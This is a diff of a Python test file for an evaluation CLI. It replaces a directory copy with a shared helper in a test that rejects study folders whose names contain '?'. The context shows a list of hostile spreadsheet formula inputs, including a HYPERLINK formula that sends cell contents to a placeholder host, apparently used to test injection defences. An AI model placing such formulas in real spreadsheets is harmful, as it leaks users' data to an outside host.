@@ -7,7 +7,6 @@ from __future__ import annotations
 import dataclasses
 import errno
 import os
-import shutil
 from pathlib import Path
 
 import openpyxl
@@ -21,6 +20,8 @@ from evalkit import store as store_mod
 from evalkit.cli import app
 from evalkit.errors import StoreError
 from evalkit.pipeline import SAMPLE_DIR
+
+from conftest import copy_sample
 
 runner = CliRunner()
 HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-3", "@SUM(A1:A2)",
@@ -132,7 +133,7 @@ def test_commands_refuse_a_store_path_with_a_question_mark(question, command):
 
 def test_run_refuses_a_study_folder_with_a_question_mark(tmp_path):
     data = tmp_path / "study?2023"
-    shutil.copytree(SAMPLE_DIR, data, ignore=shutil.ignore_patterns("*.duckdb*"))
+    copy_sample(data)
     before = sorted(p.name for p in data.iterdir())
     result = runner.invoke(app, ["run", "--data", str(data), "--out", str(tmp_path / "r")])
     _one_line_error(result, str(data / "evalkit.duckdb"), "'?'")
